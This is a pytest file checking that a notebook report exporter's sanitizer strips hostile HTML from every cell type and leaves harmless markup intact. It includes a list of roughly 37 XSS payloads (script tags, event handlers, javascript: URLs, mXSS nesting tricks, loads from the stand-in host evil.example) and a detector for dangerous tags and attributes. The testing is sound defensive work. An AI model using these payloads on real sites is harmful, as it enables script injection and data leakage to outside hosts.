"""Cells that try to run something or to call out: nothing of it may reach the page."""

import re

import pytest
from bs4 import BeautifulSoup
from report_helpers import code, markdown, shows

from qantar.report.sanitize import clean

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif" alt="x">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/a.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://example.org" ping="https://evil.example" onclick="alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.svg">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="a" autofocus onfocus="alert(1)"><button>go</button></form>',
    '<svg onload="alert(1)"><image href="https://evil.example/x.png"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay></video>',
    '<table background="https://evil.example/x.png"><tr><td onmouseover="alert(1)">1</td></tr></table>',
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<x-element onclick=alert(1)>x</x-element>",
    '<figure data-csv="01.csv" id="content" class="skip" onclick="alert(1)">x</figure>',
]


def ways_in(payload):
    """Cells that bring a payload in by every way there is."""
    stream = {"output_type": "stream", "name": "stderr", "text": f"\x1b[31m{payload}"}
    kinds = ("html", "plain", "latex", "markdown", "svg", "png", "javascript")
    return [
        markdown(f"# Title {payload}"),
        markdown(f"## Section {payload}"),
        markdown(f"text\n\n{payload}\n\ntext {payload} text\n\n![{payload}]({payload})"),
        code(f"x = '''{payload}'''", stream, *(shows(**{kind: payload}) for kind in kinds)),
    ]


SAFE_ADDRESS = re.compile(r"#|https?://|mailto:|data:image/(?:png|jpeg|svg\+xml)[;,]|data:text/csv;|[\w-]+\.html")
RUNS = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "form",
    "input",
    "button",
    "svg",
    "video",
    "template",
    "noscript",
}


def dangers(html):
    """What in a page could run or load something."""
    found = []
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        found += [element.name] if element.name in RUNS else []
        found += [
            name for name in element.attrs if name.startswith("on") or name in ("style", "srcset", "ping", "poster")
        ]
        for name in ("href", "src", "action", "data"):
            if name in element.attrs and not SAFE_ADDRESS.match(element[name]):
                found.append(element[name])
        if element.has_attr("src") and not element["src"].startswith("data:image/"):
            found.append(element["src"])
        if element.name == "link" and element["href"][:5] != "data:":
            found.append(str(element))
    return found


@pytest.mark.filterwarnings("ignore:Your element with mimetype")  # a script that is left out, as it should be
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_reaches_the_page(export, payload):
    assert dangers(export(*ways_in(payload), code="show")) == []


def test_the_check_itself_finds_dangers():
    found = [payload for payload in PAYLOADS if dangers(payload)]
    assert len(found) > len(PAYLOADS) * 0.7


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_twice_changes_nothing(payload):
    assert clean(clean(payload)) == clean(payload)


def test_harmless_markup_stays():
    html = '<p>At <strong>least</strong> <a href="https://example.org/a?b=1&amp;c=2">164</a><br>on 9 January</p>'
    assert clean(html) == html


def test_the_page_states_a_policy_that_admits_only_itself(export):
    policy = BeautifulSoup(export(markdown("# T")), "html.parser").find("meta", attrs={"http-equiv": True})["content"]
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert "script-src" not in policy
    assert "unsafe" not in policy
